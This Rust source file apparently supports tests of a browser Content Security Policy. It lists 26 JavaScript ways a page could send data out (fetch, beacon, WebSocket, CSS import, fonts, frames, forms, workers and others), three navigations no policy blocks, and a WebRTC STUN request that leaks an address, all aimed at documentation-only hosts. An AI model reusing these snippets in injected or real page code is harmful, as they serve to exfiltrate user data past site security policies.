//! Ways by which a page could send words to somebody else, as a harmful piece of code in it would try them.
//!
//! Each asks a machine of its own, so that whoever is asked tells which way was open. (All of them are addresses kept for
//! documentation; no machine answers there.)

use base64::prelude::{BASE64_STANDARD, Engine};
use sha2::{Digest, Sha256};

/// Where the one packet that nobody's policy stops is sent.
pub const SENT_ON_PURPOSE: &str = "203.0.113.77";

/// A way out.
#[derive(Clone, Copy, Debug)]
pub struct Way {
    /// What it is called.
    pub name: &'static str,
    /// The code; `HOST` is whom it asks.
    code: &'static str,
}

impl Way {
    /// Whom the way at this place of the list asks.
    pub fn host(at: usize) -> String {
        format!("198.51.100.{}", 100 + at)
    }

    /// The code of the way at this place of the list. It may throw.
    pub fn code(self, at: usize) -> String {
        format!("try {{ {} }} catch {{}}", self.code.replace("HOST", &Self::host(at)))
    }
}

const fn way(name: &'static str, code: &'static str) -> Way {
    Way { name, code }
}

/// Ways that a policy can close.
pub const WAYS: [Way; 26] = [
    way("fetch", "fetch('http://HOST/?w', { mode: 'no-cors' }).catch(() => 0)"),
    way(
        "fetch, kept alive",
        "fetch('http://HOST/?w', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'w' }).catch(() => 0)",
    ),
    way("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/?w'); x.send()"),
    way("beacon", "navigator.sendBeacon('http://HOST/?w', 'w')"),
    way("WebSocket", "new WebSocket('ws://HOST/?w')"),
    way("EventSource", "new EventSource('http://HOST/?w')"),
    way("image", "new Image().src = 'http://HOST/?w'"),
    way(
        "picture in SVG",
        "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); \
        i.setAttribute('href', 'http://HOST/?w'); s.append(i); document.body.append(s)",
    ),
    way("style sheet", "add('link', { rel: 'stylesheet', href: 'http://HOST/?w' })"),
    way(
        "style sheet of its own",
        "const s = document.createElement('style'); s.textContent = '@import url(http://HOST/?w);'; document.head.append(s)",
    ),
    way("background", "document.body.style.backgroundImage = 'url(http://HOST/?w)'"),
    way(
        "background in an attribute",
        "const d = document.createElement('div'); d.setAttribute('style', 'height: 9px; background: url(http://HOST/?w)'); document.body.append(d)",
    ),
    way(
        "font",
        "const f = new FontFace('leak', 'url(http://HOST/?w)'); document.fonts.add(f); f.load().catch(() => 0)",
    ),
    way("script", "add('script', { src: 'http://HOST/?w' })"),
    way("module", "import('http://HOST/w.js').catch(() => 0)"),
    way("frame", "add('iframe', { src: 'http://HOST/?w' })"),
    way("frame with a page of its own", "add('iframe', { srcdoc: '<img src=http://HOST/?w>' })"),
    way(
        "form",
        "const f = add('form', { action: 'http://HOST/', method: 'POST', target: 'elsewhere' }); add('iframe', { name: 'elsewhere' }); f.submit()",
    ),
    way("object", "add('object', { data: 'http://HOST/?w' })"),
    way("embed", "add('embed', { src: 'http://HOST/?w' })"),
    way("sound", "new Audio('http://HOST/?w').play().catch(() => 0)"),
    way("film", "add('video', { src: 'http://HOST/?w', preload: 'auto' }).load()"),
    way("prefetch", "add('link', { rel: 'prefetch', href: 'http://HOST/?w' })"),
    way("preload", "add('link', { rel: 'preload', as: 'image', href: 'http://HOST/?w' })"),
    way("ping", "const a = add('a', { href: '#', ping: 'http://HOST/?w' }); a.click()"),
    way("worker", "new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/?w', { mode: 'no-cors' })\"])))"),
];

/// Ways that no policy closes: the page itself goes elsewhere, in a window of its own or in this one.
pub const HOLES: [Way; 3] = [
    way("window", "open('http://HOST/?w')"),
    way("link", "add('a', { href: 'http://HOST/?w', target: '_blank', rel: 'noopener' }).click()"),
    way("going elsewhere", "location = 'http://HOST/?w'"),
];

/// What the code of the ways uses.
pub const ADD: &str = "const add = (name, given) => { const e = document.createElement(name); \
    for (const [k, v] of Object.entries(given)) e.setAttribute(k, v); document.body.append(e); return e; };";

/// How a policy names a script: by the digest of its text.
pub fn sha256(code: &str) -> String {
    BASE64_STANDARD.encode(Sha256::digest(code))
}

/// Asks a machine beyond the policy's reach for the address of this one, as calls with sound and picture do.
pub fn call() -> String {
    format!(
        "try {{ const c = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{SENT_ON_PURPOSE}:3478' }}] }}); \
         c.createDataChannel('w'); c.createOffer().then(o => c.setLocalDescription(o)); }} catch {{}}"
    )
}
